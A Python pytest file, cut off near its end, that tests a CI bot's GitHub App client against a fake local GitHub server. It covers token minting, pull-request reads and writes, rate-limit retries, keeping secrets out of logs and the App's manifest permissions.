"""Drive workers.github through the real PyGithub and httpx against the loopback fake GitHub."""

from __future__ import annotations

import json
import logging
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from bot.kernel.errors import (
    ConfigError,
    GitHubNotFound,
    GitHubPermission,
    GitHubTransient,
    GitHubValidation,
    InputError,
    RateLimited,
)
from bot.kernel.settings import Settings
from tests.fakes.github import FakeGitHub, generate_private_key_pem
from workers.github import (
    MAX_TEXT_CHARS,
    CheckRunInfo,
    CommentInfo,
    FileInfo,
    GitHubApp,
    GitHubClient,
    JobInfo,
    ReviewComment,
    decipher,
)

REPO = "acme/shop"
INSTALLATION = 4242
MARKER = "<!-- cibot:summary -->"

DIFF = """\
diff --git a/src/auth/session.py b/src/auth/session.py
index 1111111..2222222 100644
--- a/src/auth/session.py
+++ b/src/auth/session.py
@@ -1,4 +1,6 @@
 import hmac
+import secrets
 def token():
-    return "static"
+    value = secrets.token_hex(16)
+    return value
 # end
diff --git a/docs/new.md b/docs/new.md
new file mode 100644
index 0000000..3333333
--- /dev/null
+++ b/docs/new.md
@@ -0,0 +1,2 @@
+# New
+text
diff --git a/old/gone.txt b/old/gone.txt
deleted file mode 100644
index 4444444..0000000
--- a/old/gone.txt
+++ /dev/null
@@ -1 +0,0 @@
-bye
diff --git a/lib/a.py b/lib/b.py
similarity index 90%
rename from lib/a.py
rename to lib/b.py
index 5555555..6666666 100644
--- a/lib/a.py
+++ b/lib/b.py
@@ -1,2 +1,2 @@
-x = 1
+x = 2
 y = 3
"""


class Clock:
    """Stand in for time.time; tests move it forward."""

    def __init__(self) -> None:
        self.now = time.time()

    def __call__(self) -> float:
        return self.now


class Sleeps(list[float]):
    """Record every wait instead of waiting."""

    def __call__(self, seconds: float) -> None:
        self.append(seconds)


@pytest.fixture
def fake() -> Iterator[FakeGitHub]:
    with FakeGitHub() as server:
        server.add_installation(INSTALLATION, [REPO])
        server.add_pull(
            REPO, 7, title="Rotate session tokens", body="Fixes #3", diff=DIFF, labels=["security"]
        )
        yield server


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def sleeps() -> Sleeps:
    return Sleeps()


@pytest.fixture
def app(fake: FakeGitHub, clock: Clock, sleeps: Sleeps) -> Iterator[GitHubApp]:
    github_app = GitHubApp(
        app_id=fake.app_id,
        private_key=fake.private_key_pem,
        base_url=fake.url,
        sleep=sleeps,
        clock=clock,
    )
    yield github_app
    github_app.close()


@pytest.fixture
def client(app: GitHubApp) -> Iterator[GitHubClient]:
    with app.client(installation_id=INSTALLATION) as installation_client:
        yield installation_client


def mints(fake: FakeGitHub) -> int:
    return len(fake.calls_to("POST", r"/app/installations/\d+/access_tokens$"))


def api_calls(fake: FakeGitHub) -> list[tuple[str, str]]:
    """Return the calls made with an installation token (everything but App-level ones)."""
    return [(c.method, c.path) for c in fake.calls if "/app" not in c.path]


# ---------------------------------------------------------------- App authentication


def test_token_is_minted_once_and_shared_by_clients(fake: FakeGitHub, app: GitHubApp) -> None:
    first = app.installation_token(installation_id=INSTALLATION)
    with (
        app.client(installation_id=INSTALLATION) as one,
        app.client(installation_id=INSTALLATION) as two,
    ):
        one.pull(REPO, 7)
        two.pull_files(REPO, 7)
    assert first.startswith("ghs_")
    assert mints(fake) == 1
    call = fake.calls_to("GET", r"/pulls/7$")[0]
    assert call.headers["authorization"] == f"token {first}"


def test_concurrent_callers_share_one_mint(fake: FakeGitHub, app: GitHubApp) -> None:
    with ThreadPoolExecutor(max_workers=8) as pool:
        tokens = set(
            pool.map(lambda _: app.installation_token(installation_id=INSTALLATION), range(32))
        )
    assert len(tokens) == 1
    assert mints(fake) == 1


def test_token_is_refreshed_five_minutes_before_expiry(
    fake: FakeGitHub, app: GitHubApp, clock: Clock
) -> None:
    first = app.installation_token(installation_id=INSTALLATION)
    issued_expiry = app._tokens[INSTALLATION].expires_at
    clock.now = issued_expiry - 301
    assert app.installation_token(installation_id=INSTALLATION) == first
    assert mints(fake) == 1
    clock.now = issued_expiry - 299
    second = app.installation_token(installation_id=INSTALLATION)
    assert second != first
    assert mints(fake) == 2


def test_tokens_are_cached_per_installation(fake: FakeGitHub, app: GitHubApp) -> None:
    fake.add_installation(99, ["acme/other"])
    a = app.installation_token(installation_id=INSTALLATION)
    b = app.installation_token(installation_id=99)
    assert a != b
    assert app.installation_token(installation_id=99) == b
    assert mints(fake) == 2


def test_a_token_github_refuses_is_reminted_once(fake: FakeGitHub, client: GitHubClient) -> None:
    client.pull(REPO, 7)
    fake.revoke_tokens()
    assert client.pull(REPO, 7).number == 7
    assert mints(fake) == 2
    assert len(fake.calls_to("GET", r"/pulls/7$")) == 3


def test_jwt_is_rs256_signed_by_the_app(fake: FakeGitHub, app: GitHubApp) -> None:
    import jwt

    app.installation_token(installation_id=INSTALLATION)
    bearer = fake.calls_to("POST", "access_tokens")[0].headers["authorization"]
    scheme, token = bearer.split(" ")
    assert scheme == "Bearer"
    assert jwt.get_unverified_header(token)["alg"] == "RS256"
    claims = jwt.decode(token, options={"verify_signature": False})
    assert claims["iss"] == fake.app_id
    assert claims["exp"] - claims["iat"] <= 600 + 60


def test_fake_rejects_a_jwt_signed_with_another_key(fake: FakeGitHub, sleeps: Sleeps) -> None:
    impostor = GitHubApp(
        app_id=fake.app_id, private_key=generate_private_key_pem(), base_url=fake.url, sleep=sleeps
    )
    with pytest.raises(GitHubPermission) as caught:
        impostor.installation_token(installation_id=INSTALLATION)
    impostor.close()
    assert caught.value.status == 401
    assert mints(fake) == 1
    assert sleeps == []


def test_fake_rejects_a_jwt_for_another_app_id(fake: FakeGitHub, sleeps: Sleeps) -> None:
    other = GitHubApp(
        app_id="999", private_key=fake.private_key_pem, base_url=fake.url, sleep=sleeps
    )
    with pytest.raises(GitHubPermission):
        other.installation_token(installation_id=INSTALLATION)
    other.close()


def test_a_malformed_token_answer_is_a_clear_error(fake: FakeGitHub, app: GitHubApp) -> None:
    fake.inject("POST", r"/access_tokens$", status=201, body={"token": "ghs_x"})
    with pytest.raises(GitHubTransient, match="expires_at"):
        app.installation_token(installation_id=INSTALLATION)
    assert app.installation_token(installation_id=INSTALLATION).startswith("ghs_")


def test_unknown_installation_is_not_found(app: GitHubApp) -> None:
    with pytest.raises(GitHubNotFound):
        app.installation_token(installation_id=1)


def test_bad_private_key_is_a_config_error_naming_the_variable() -> None:
    with pytest.raises(ConfigError) as caught:
        GitHubApp(app_id="1", private_key="-----BEGIN RSA PRIVATE KEY-----\nAAAA\n")
    assert caught.value.key == "CIBOT_GITHUB_PRIVATE_KEY_FILE"
    with pytest.raises(ConfigError) as missing_id:
        GitHubApp(app_id=" ", private_key="x")
    assert missing_id.value.key == "CIBOT_GITHUB_APP_ID"


def test_from_settings(fake: FakeGitHub) -> None:
    settings = Settings(
        github_app_id=fake.app_id, github_private_key=fake.private_key_pem, github_api_url=fake.url
    )
    app = GitHubApp.from_settings(settings)
    with app.client(installation_id=INSTALLATION) as client:
        assert client.pull(REPO, 7).title == "Rotate session tokens"
    app.close()
    with pytest.raises(ConfigError) as caught:
        GitHubApp.from_settings(Settings(github_app_id="1"))
    assert "CIBOT_GITHUB_PRIVATE_KEY" in str(caught.value)


def test_bot_login_comes_from_the_app_slug_once(fake: FakeGitHub, client: GitHubClient) -> None:
    for n in range(3):
        client.upsert_comment(REPO, 7, marker=MARKER, body=f"v{n}")
    assert len(fake.calls_to("GET", r"^/app$")) == 1
    assert fake.comments(REPO, 7)[0]["user"]["login"] == "cibot[bot]"


def test_github_enterprise_base_url(fake: FakeGitHub, sleeps: Sleeps) -> None:
    fake.add_workflow_job(REPO, 31, job_id=310, name="unit", conclusion="failure", log=b"E boom\n")
    for n in range(120):
        fake.add_comment(REPO, 7, f"human {n}")
    app = GitHubApp(
        app_id=fake.app_id,
        private_key=fake.private_key_pem,
        base_url=fake.ghe_url + "/",
        sleep=sleeps,
    )
    with app.client(installation_id=INSTALLATION) as client:
        assert client.pull(REPO, 7).default_branch == "main"
        assert client.pull_diff(REPO, 7) == DIFF
        assert b"".join(client.job_log(REPO, 310)) == b"E boom\n"
        client.upsert_comment(REPO, 7, marker=MARKER, body="hello")
    app.close()
    api = [c.path for c in fake.calls if not c.path.startswith("/_raw/")]
    assert api and all(path.startswith("/api/v3/") for path in api)
    assert len(fake.calls_to("GET", r"/issues/7/comments$")) == 2  # followed the Link header


# ---------------------------------------------------------------- reads


def test_pull(fake: FakeGitHub, client: GitHubClient) -> None:
    fake.add_pull(
        REPO,
        8,
        title="Bump deps",
        author="dependabot[bot]",
        author_type="Bot",
        draft=True,
        head_sha="a" * 40,
        base_sha="b" * 40,
        head_ref="deps/x",
        head_repo="fork/shop",
    )
    pull = client.pull(REPO, 8)
    assert (pull.number, pull.title, pull.author, pull.author_is_bot, pull.draft) == (
        8,
        "Bump deps",
        "dependabot[bot]",
        True,
        True,
    )
    assert (pull.head_sha, pull.base_sha, pull.head_ref, pull.base_ref) == (
        "a" * 40,
        "b" * 40,
        "deps/x",
        "main",
    )
    assert (pull.state, pull.merged, pull.head_repo) == ("open", False, "fork/shop")
    first = client.pull(REPO, 7)
    assert first.labels == ("security",)
    assert first.body == "Fixes #3"
    assert len(api_calls(fake)) == 2  # one GET per pull, nothing else


def test_pull_files_and_diff(client: GitHubClient) -> None:
    files = {f.path: f for f in client.pull_files(REPO, 7)}
    assert files["src/auth/session.py"] == FileInfo(
        "src/auth/session.py", None, "modified", 3, 1, files["src/auth/session.py"].patch
    )
    assert files["src/auth/session.py"].patch.startswith("@@ -1,4 +1,6 @@")
    assert files["docs/new.md"].status == "added"
    assert files["old/gone.txt"].status == "removed"
    assert (files["lib/b.py"].status, files["lib/b.py"].previous_path) == ("renamed", "lib/a.py")
    assert client.pull_diff(REPO, 7) == DIFF


def test_pull_commits(fake: FakeGitHub, client: GitHubClient) -> None:
    fake.add_pull(REPO, 9, commits=["1" * 40, "2" * 40], head_sha="2" * 40)
    assert client.pull_commits(REPO, 9) == ["1" * 40, "2" * 40]


def test_permission_levels(fake: FakeGitHub, client: GitHubClient) -> None:
    for level in ("admin", "maintain", "write", "triage", "read"):
        fake.set_permission(REPO, f"u-{level}", level)
        assert client.permission(REPO, f"u-{level}") == level
    assert client.permission(REPO, "stranger") == "none"


def test_default_branch_file(fake: FakeGitHub, client: GitHubClient) -> None:
    assert client.default_branch_file(REPO, ".github/cibot.yml") is None
    fake.set_file(REPO, ".github/cibot.yml", "tasks:\n  review: {tier: mid}\n")
    fake.set_file(REPO, ".github/cibot.yml", "ignored: on another branch\n", ref="dev")
    assert client.default_branch_file(REPO, ".github/cibot.yml") == (
        "tasks:\n  review: {tier: mid}\n"
    )
    assert client.default_branch_file(REPO, ".github") is None  # a directory


def test_check_runs_and_workflow_jobs(fake: FakeGitHub, client: GitHubClient) -> None:
    fake.add_workflow_job(REPO, 77, job_id=1, name="lint", conclusion="success", log=b"ok")
    fake.add_workflow_job(
        REPO,
        77,
        job_id=2,
        name="test",
        conclusion="failure",
        log=b"F",
        steps=[("Checkout", "success"), ("pytest", "failure"), ("Upload", "skipped")],
    )
    jobs = client.workflow_jobs(REPO, 77)
    assert jobs == [
        JobInfo(1, "lint", "completed", "success", ()),
        JobInfo(2, "test", "completed", "failure", ("pytest",)),
    ]
    run_id = client.upsert_check_run(
        REPO,
        head_sha="c" * 40,
        name="cibot/review",
        status="in_progress",
        conclusion=None,
        title="Reviewing",
        summary="working",
        external_id="job-1",
    )
    assert client.check_runs(REPO, "c" * 40) == [
        CheckRunInfo(run_id, "cibot/review", "in_progress", None, "job-1", int(fake.app_id))
    ]
    assert client.check_runs(REPO, "d" * 40) == []


def test_job_log_is_streamed_in_chunks_and_follows_the_redirect(
    fake: FakeGitHub, client: GitHubClient
) -> None:
    log = b"".join(f"line {n:06d} ERROR something failed\n".encode() for n in range(20_000))
    fake.add_workflow_job(REPO, 5, job_id=50, name="test", conclusion="failure", log=log)
    fake.log_chunk_size = 32 * 1024
    gate = fake.hold_logs()
    stream = client.job_log(REPO, 50)
    first = next(stream)  # arrives while the server still holds the rest back
    assert not gate.is_set()
    gate.set()
    chunks = [first, *stream]
    assert b"".join(chunks) == log
    assert len(chunks) > 5
    assert max(len(c) for c in chunks) <= 64 * 1024
    redirect = fake.calls_to("GET", r"/actions/jobs/50/logs$")[0]
    raw = fake.calls_to("GET", r"^/_raw/logs/")[0]
    assert redirect.headers["authorization"].startswith("token ")
    assert "authorization" not in raw.headers  # the signed URL never sees our token


def test_job_log_of_a_missing_job_is_not_found(client: GitHubClient) -> None:
    with pytest.raises(GitHubNotFound):
        client.job_log(REPO, 404)


def test_review_comments_and_reactions(fake: FakeGitHub, client: GitHubClient) -> None:
    sha = client.pull(REPO, 7).head_sha
    client.create_review(
        REPO,
        7,
        commit_sha=sha,
        body="",
        comments=[ReviewComment(path="src/auth/session.py", line=5, body="log the length?")],
    )
    (comment,) = client.review_comments(REPO, 7)
    assert (comment.path, comment.line, comment.body, comment.author) == (
        "src/auth/session.py",
        5,
        "log the length?",
        "cibot[bot]",
    )
    comment_id = client.upsert_comment(REPO, 7, marker=MARKER, body="summary")
    fake.react(REPO, comment_id, "+1", user="alice")
    fake.react(REPO, comment_id, "+1", user="bob")
    fake.react(REPO, comment_id, "-1", user="carol")
    counts = client.comment_reactions(REPO, comment_id)
    assert (counts["+1"], counts["-1"], counts["heart"]) == (2, 1, 0)
    assert set(counts) == {"+1", "-1", "laugh", "confused", "heart", "hooray", "rocket", "eyes"}


# ---------------------------------------------------------------- writes


def test_upsert_edits_in_place(fake: FakeGitHub, client: GitHubClient) -> None:
    fake.add_comment(REPO, 7, f"quoting the bot: {MARKER}", author="mallory")
    ids = {client.upsert_comment(REPO, 7, marker=MARKER, body=f"summary v{n}") for n in range(3)}
    mine = [c for c in fake.comments(REPO, 7) if c["user"]["login"] == "cibot[bot]"]
    assert len(ids) == 1 and len(mine) == 1
    assert mine[0]["id"] in ids
    assert mine[0]["body"] == f"summary v2\n\n{MARKER}"
    assert len(fake.calls_to("POST", r"/issues/7/comments$")) == 1
    assert len(fake.calls_to("PATCH", r"/issues/comments/\d+$")) == 2
    assert client.find_comment(REPO, 7, MARKER) == CommentInfo(
        mine[0]["id"], mine[0]["body"], "cibot[bot]"
    )
    assert client.find_comment(REPO, 7, "<!-- cibot:other -->") is None


def test_upsert_with_unchanged_body_writes_nothing(fake: FakeGitHub, client: GitHubClient) -> None:
    client.upsert_comment(REPO, 7, marker=MARKER, body=f"same\n{MARKER}")
    client.upsert_comment(REPO, 7, marker=MARKER, body=f"same\n{MARKER}")
    assert len(fake.calls_to("PATCH", ".")) == 0
    assert fake.comments(REPO, 7)[0]["body"] == f"same\n{MARKER}"


def test_find_comment_pages_through_long_threads(fake: FakeGitHub, client: GitHubClient) -> None:
    for n in range(230):
        fake.add_comment(REPO, 7, f"comment {n}")
    comment_id = client.upsert_comment(REPO, 7, marker=MARKER, body="late")
    found = client.find_comment(REPO, 7, MARKER)
    assert found is not None and found.id == comment_id
    assert len(fake.calls_to("GET", r"/issues/7/comments$")) == 3 + 3


def test_oversized_comment_is_truncated_and_keeps_its_marker(
    fake: FakeGitHub, client: GitHubClient
) -> None:
    client.upsert_comment(REPO, 7, marker=MARKER, body="x" * 100_000)
    body = fake.comments(REPO, 7)[0]["body"]
    assert len(body) <= MAX_TEXT_CHARS
    assert body.endswith(MARKER)
    assert "truncated" in body


def test_one_review_is_one_api_call(fake: FakeGitHub, client: GitHubClient) -> None:
    sha = "e" * 40
    fake.add_pull(REPO, 11, diff=DIFF, head_sha=sha)
    comments = [
        ReviewComment(path="src/auth/session.py", line=2, body="new import"),
        ReviewComment(path="src/auth/session.py", start_line=5, line=6, body="multi-line"),
        ReviewComment(path="src/auth/session.py", line=3, side="LEFT", body="was static"),
        ReviewComment(path="docs/new.md", line=1, body="title"),
        ReviewComment(path="lib/b.py", line=2, body="context line"),
    ]
    review_id = client.create_review(REPO, 11, commit_sha=sha, body="Five notes", comments=comments)
    assert api_calls(fake) == [("POST", f"/repos/{REPO}/pulls/11/reviews")]
    (review,) = fake.reviews(REPO, 11)
    assert review["id"] == review_id and review["state"] == "COMMENTED"
    assert [c["body"] for c in review["comments"]] == [c.body for c in comments]
    assert review["comments"][1]["start_line"] == 5


def test_review_on_a_line_outside_the_diff_fails_after_one_call(
    fake: FakeGitHub, client: GitHubClient
) -> None:
    sha = client.pull(REPO, 7).head_sha
    with pytest.raises(GitHubValidation) as caught:
        client.create_review(
            REPO,
            7,
            commit_sha=sha,
            body="",
            comments=[ReviewComment(path="src/auth/session.py", line=40, body="not in the diff")],
        )
    assert caught.value.status == 422
    assert len(fake.calls_to("POST", r"/reviews$")) == 1
    assert fake.reviews(REPO, 7) == []


def test_check_run_upsert_updates_its_own_run(fake: FakeGitHub, client: GitHubClient) -> None:
    sha = "f" * 40
    fake.add_token("actions-token", [REPO])
    with GitHubClient.from_token(token="actions-token", base_url=fake.url) as actions:
        foreign = actions.upsert_check_run(
            REPO,
            head_sha=sha,
            name="cibot",
            status="completed",
            conclusion="neutral",
            title="t",
            summary="s",
        )
    first = client.upsert_check_run(
        REPO,
        head_sha=sha,
        name="cibot",
        status="in_progress",
        conclusion=None,
        title="Working",
        summary="started",
    )
    second = client.upsert_check_run(
        REPO,
        head_sha=sha,
        name="cibot",
        status="completed",
        conclusion="success",
        title="Done",
        summary="all good",
        text="details",
    )
    assert first == second != foreign
    runs = {r["id"]: r for r in fake.check_runs(REPO)}
    assert len(runs) == 2
    assert runs[first]["conclusion"] == "success"
    assert runs[first]["output"]["text"] == "details"
    assert runs[foreign]["conclusion"] == "neutral"


def test_a_reaction_is_added_once(fake: FakeGitHub, client: GitHubClient) -> None:
    command = fake.add_comment(REPO, 7, "/cibot review", author="bob")
    client.add_reaction(REPO, comment_id=command, content="eyes")
    client.add_reaction(REPO, comment_id=command, content="eyes")
    assert [r["content"] for r in fake.reactions(REPO, command)] == ["eyes"]


def test_push_files_creates_then_moves_the_branch(fake: FakeGitHub, client: GitHubClient) -> None:
    fake.set_file(REPO, "src/app.py", "print('hi')\n")
    base = fake.branches(REPO)["main"]
    assert base == {"src/app.py": "print('hi')\n"}
    base_sha = fake._repos[REPO].refs["main"]
    one = client.push_files(
        REPO,
        branch="cibot/tests-7",
        base_sha=base_sha,
        files={"tests/test_app.py": "def test_a(): pass\n"},
        message="Add generated tests",
    )
    two = client.push_files(
        REPO,
        branch="cibot/tests-7",
        base_sha=base_sha,
        files={"tests/test_app.py": "def test_b(): pass\n"},
        message="Add generated tests",
    )
    assert one != two
    branch = fake.branches(REPO)["cibot/tests-7"]
    assert branch == {"src/app.py": "print('hi')\n", "tests/test_app.py": "def test_b(): pass\n"}
    commit = fake.commit(REPO, two)
    assert commit["parents"] == [base_sha] and commit["message"] == "Add generated tests"
    assert fake.branches(REPO)["main"] == base  # untouched
    with pytest.raises(InputError):
        client.push_files(REPO, branch="main", base_sha=base_sha, files={"a": "b"}, message="m")
    for bad in ({"../x": "y"}, {"/abs": "y"}, {}):
        with pytest.raises(InputError):
            client.push_files(REPO, branch="cibot/x", base_sha=base_sha, files=bad, message="m")


def test_bad_input_is_refused_before_any_call(fake: FakeGitHub, client: GitHubClient) -> None:
    calls = len(fake.calls)
    cases = [
        lambda: client.pull("not a repo", 1),
        lambda: client.upsert_comment(REPO, 7, marker="cibot:summary", body="x"),
        lambda: client.create_review(REPO, 7, commit_sha="x", body="", comments=[], event="MERGE"),
        lambda: client.upsert_check_run(
            REPO,
            head_sha="x",
            name="n",
            status="completed",
            conclusion=None,
            title="t",
            summary="s",
        ),
        lambda: client.upsert_check_run(
            REPO, head_sha="x", name="n", status="done", conclusion=None, title="t", summary="s"
        ),
        lambda: client.add_reaction(REPO, comment_id=1, content="thumbsup"),
    ]
    for case in cases:
        with pytest.raises(InputError):
            case()
    assert len(fake.calls) == calls


# ---------------------------------------------------------------- rate limits and retries


def test_403_with_retry_after_waits_then_succeeds(
    fake: FakeGitHub, client: GitHubClient, sleeps: Sleeps
) -> None:
    fake.inject("GET", r"/pulls/7$", status=403, headers={"retry-after": "1"})
    assert client.pull(REPO, 7).number == 7
    assert sleeps == [1.0]
    assert len(fake.calls_to("GET", r"/pulls/7$")) == 2


def test_429_waits_for_retry_after(fake: FakeGitHub, client: GitHubClient, sleeps: Sleeps) -> None:
    fake.inject("POST", r"/issues/7/comments$", status=429, headers={"retry-after": "2"})
    client.upsert_comment(REPO, 7, marker=MARKER, body="hi")
    assert sleeps == [2.0]
    assert len(fake.calls_to("POST", r"/issues/7/comments$")) == 2
    assert len(fake.comments(REPO, 7)) == 1


def test_exhausted_quota_waits_until_reset(
    fake: FakeGitHub, client: GitHubClient, sleeps: Sleeps, clock: Clock
) -> None:
    reset = int(clock.now) + 30
    fake.inject(
        "GET",
        r"/pulls/7/files$",
        status=403,
        headers={"x-ratelimit-remaining": "0", "x-ratelimit-reset": str(reset)},
    )
    client.pull_files(REPO, 7)
    assert sleeps == [pytest.approx(reset - clock.now + 1.0)]
    assert len(fake.calls_to("GET", r"/pulls/7/files$")) == 2


def test_secondary_limit_without_headers_backs_off_a_minute(
    fake: FakeGitHub, client: GitHubClient, sleeps: Sleeps
) -> None:
    fake.inject(
        "GET",
        r"/pulls/7$",
        status=403,
        body={
            "message": "You have exceeded a secondary rate limit. Please wait a few minutes "
            "before you try again."
        },
    )
    client.pull(REPO, 7)
    assert sleeps == [60.0]


def test_long_rate_limit_is_handed_back_to_the_caller(
    fake: FakeGitHub, client: GitHubClient, sleeps: Sleeps, clock: Clock
) -> None:
    reset = int(clock.now) + 3000
    fake.inject(
        "GET",
        r"/pulls/7$",
        status=403,
        headers={"x-ratelimit-remaining": "0", "x-ratelimit-reset": str(reset)},
    )
    with pytest.raises(RateLimited) as caught:
        client.pull(REPO, 7)
    assert caught.value.retry_after == pytest.approx(reset - clock.now + 1.0)
    assert sleeps == []
    assert len(fake.calls_to("GET", r"/pulls/7$")) == 1


def test_5xx_is_retried_with_jittered_backoff(
    fake: FakeGitHub, client: GitHubClient, sleeps: Sleeps
) -> None:
    fake.inject("GET", r"/pulls/7$", status=502, times=2)
    assert client.pull(REPO, 7).number == 7
    assert len(fake.calls_to("GET", r"/pulls/7$")) == 3
    assert len(sleeps) == 2
    assert 0.5 <= sleeps[0] <= 1.0
    assert sleeps[1] >= 1.0 and sleeps[1] <= 2.0  # second backoff doubles, jittered


def test_5xx_retries_are_bounded(fake: FakeGitHub, client: GitHubClient, sleeps: Sleeps) -> None:
    fake.inject("GET", r"/pulls/7$", status=503, times=100)
    with pytest.raises(GitHubTransient) as caught:
        client.pull(REPO, 7)
    assert caught.value.status == 503
    assert len(fake.calls_to("GET", r"/pulls/7$")) == 4
    assert len(sleeps) == 3


def test_422_is_never_retried(fake: FakeGitHub, client: GitHubClient, sleeps: Sleeps) -> None:
    fake.inject("POST", r"/reactions$", status=422)
    with pytest.raises(GitHubValidation):
        client.add_reaction(REPO, comment_id=1, content="eyes")
    assert len(fake.calls_to("POST", r"/reactions$")) == 1
    assert sleeps == []


def test_permission_403_is_not_retried(
    fake: FakeGitHub, client: GitHubClient, sleeps: Sleeps
) -> None:
    fake.inject("POST", r"/check-runs$", status=403)
    with pytest.raises(GitHubPermission) as caught:
        client.upsert_check_run(
            REPO,
            head_sha="1" * 40,
            name="n",
            status="queued",
            conclusion=None,
            title="t",
            summary="s",
        )
    assert "app-manifest" in str(caught.value)
    assert len(fake.calls_to("POST", r"/check-runs$")) == 1
    assert sleeps == []


def test_slow_answer_times_out_and_is_retried(fake: FakeGitHub, sleeps: Sleeps) -> None:
    app = GitHubApp(
        app_id=fake.app_id,
        private_key=fake.private_key_pem,
        base_url=fake.url,
        sleep=sleeps,
        timeout=0.3,
    )
    fake.inject("GET", r"/pulls/7$", status=200, delay=1.0)
    with app.client(installation_id=INSTALLATION) as client:
        assert client.pull_diff(REPO, 7) == DIFF
    app.close()
    assert len(fake.calls_to("GET", r"/pulls/7$")) == 2
    assert len(sleeps) == 1


def test_unreachable_github_is_transient(sleeps: Sleeps) -> None:
    with FakeGitHub() as gone:
        url = gone.url
    with (
        GitHubClient.from_token(token="t", base_url=url, sleep=sleeps) as client,
        pytest.raises(GitHubTransient) as caught,
    ):
        client.pull(REPO, 1)
    assert caught.value.status == 0
    assert len(sleeps) == 3


def test_bad_token_is_a_permission_error_after_one_call(fake: FakeGitHub, sleeps: Sleeps) -> None:
    with (
        GitHubClient.from_token(token="ghs_forged", base_url=fake.url, sleep=sleeps) as client,
        pytest.raises(GitHubPermission) as caught,
    ):
        client.pull(REPO, 7)
    assert caught.value.status == 401
    assert len(fake.calls) == 1
    assert sleeps == []


def test_expired_plain_token_is_a_permission_error(fake: FakeGitHub, sleeps: Sleeps) -> None:
    fake.add_token("gha-token", [REPO])
    with GitHubClient.from_token(token="gha-token", base_url=fake.url, sleep=sleeps) as client:
        assert client.pull(REPO, 7).number == 7
        fake.revoke_tokens()
        with pytest.raises(GitHubPermission):
            client.pull(REPO, 7)


def test_missing_things_are_not_found(fake: FakeGitHub, client: GitHubClient) -> None:
    fake.add_installation(5, ["acme/elsewhere"])
    with pytest.raises(GitHubNotFound):
        client.pull(REPO, 999)
    with pytest.raises(GitHubNotFound):
        client.pull("acme/elsewhere", 1)  # not covered by this installation's token


@pytest.mark.parametrize(
    ("status", "headers", "message", "expected", "retry_after"),
    [
        (401, {}, "Bad credentials", GitHubPermission, None),
        (403, {}, "Resource not accessible by integration", GitHubPermission, None),
        (403, {"Retry-After": "7"}, "", RateLimited, 7.0),
        (403, {"x-ratelimit-remaining": "0", "x-ratelimit-reset": "1010"}, "", RateLimited, 11.0),
        (403, {}, "API rate limit exceeded for user", RateLimited, 60.0),
        (429, {}, "", RateLimited, 60.0),
        (404, {}, "Not Found", GitHubNotFound, None),
        (409, {}, "Conflict", GitHubValidation, None),
        (422, {}, "Validation Failed", GitHubValidation, None),
        (500, {}, "", GitHubTransient, None),
        (504, {}, "", GitHubTransient, None),
    ],
)
def test_decipher_maps_every_status(
    status: int, headers: dict[str, str], message: str, expected: type, retry_after: float | None
) -> None:
    error = decipher(status, headers, message, now=1000.0)
    assert type(error) is expected
    assert error.status == status
    if retry_after is not None:
        assert isinstance(error, RateLimited)
        assert error.retry_after == retry_after


def test_decipher_backs_off_exponentially_without_headers() -> None:
    waits = [decipher(429, {}, "", now=0.0, attempt=n) for n in (1, 2, 3)]
    assert [w.retry_after for w in waits if isinstance(w, RateLimited)] == [60.0, 120.0, 240.0]


# ---------------------------------------------------------------- secrets


def test_tokens_and_keys_never_reach_the_logs(
    fake: FakeGitHub, client: GitHubClient, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    fake.inject("GET", r"/pulls/7$", status=502)
    client.pull(REPO, 7)
    client.upsert_comment(REPO, 7, marker=MARKER, body="hi")
    token = client._token()
    text = "\n".join(f"{r.getMessage()} {r.__dict__}" for r in caplog.records)
    assert "github call retried" in text
    assert token not in text
    assert "PRIVATE KEY" not in text


def failures(caplog: pytest.LogCaptureFixture) -> list[logging.LogRecord]:
    """Return the 'github call failed' records."""
    return [r for r in caplog.records if r.getMessage() == "github call failed"]


def test_refused_credentials_are_logged_as_errors_with_the_fix(
    fake: FakeGitHub, sleeps: Sleeps, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG, logger="workers.github")
    other = GitHubApp(
        app_id="999", private_key=fake.private_key_pem, base_url=fake.url, sleep=sleeps
    )
    with pytest.raises(GitHubPermission):
        other.installation_token(installation_id=INSTALLATION)
    other.close()
    (record,) = failures(caplog)
    assert record.levelno == logging.ERROR
    assert record.__dict__["status"] == 401
    assert record.__dict__["operation"] == "mint_token"
    assert "check CIBOT_GITHUB_APP_ID and the private key" in record.__dict__["fix"]
    assert "may be revoked" in record.__dict__["fix"]
    assert record.__dict__["error"].startswith("GitHub answered 401: ")


def test_failures_are_warnings_and_an_absent_file_is_only_debug(
    fake: FakeGitHub, client: GitHubClient, sleeps: Sleeps, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG, logger="workers.github")
    assert client.default_branch_file(REPO, ".github/cibot.yml") is None
    (absent,) = failures(caplog)
    assert (absent.levelno, absent.__dict__["status"]) == (logging.DEBUG, 404)
    caplog.clear()
    fake.inject("GET", r"/pulls/7$", status=422)
    with pytest.raises(GitHubValidation):
        client.pull(REPO, 7)
    fake.inject("GET", r"/pulls/7$", status=502, times=4)
    with pytest.raises(GitHubTransient):
        client.pull(REPO, 7)
    logged = failures(caplog)
    assert [(r.levelno, r.__dict__["status"]) for r in logged] == [
        (logging.WARNING, 422),
        (logging.WARNING, 502),
    ]
    assert "githubstatus.com" in logged[1].__dict__["fix"]
    retried = [r for r in caplog.records if r.getMessage() == "github call retried"]
    assert len(retried) == 3 and all(r.levelno == logging.WARNING for r in retried)


def test_a_token_refused_once_is_reminted_without_an_error_line(
    fake: FakeGitHub, client: GitHubClient, caplog: pytest.LogCaptureFixture
) -> None:
    client.pull(REPO, 7)
    fake.revoke_tokens()
    caplog.set_level(logging.DEBUG, logger="workers.github")
    client.pull(REPO, 7)
    assert [r.levelno for r in failures(caplog)] == [logging.DEBUG]


# ---------------------------------------------------------------- the App manifest


def test_app_manifest_asks_for_exactly_what_the_client_uses() -> None:
    manifest_path = Path(__file__).resolve().parents[1] / ".github" / "app-manifest.json"
    manifest = json.loads(manifest_path.read_text(encoding="utf-8"))
    assert manifest["default_permissions"] == {
        "actions": "read",
        "checks": "write",
        "contents": "write",
        "issues": "write",
        "metadata": "read",
        "pull_requests": "write",
    }
    assert sorted(manifest["default_events"]) == [
        "check_suite",
        "issue_comment",
        "pull_request",
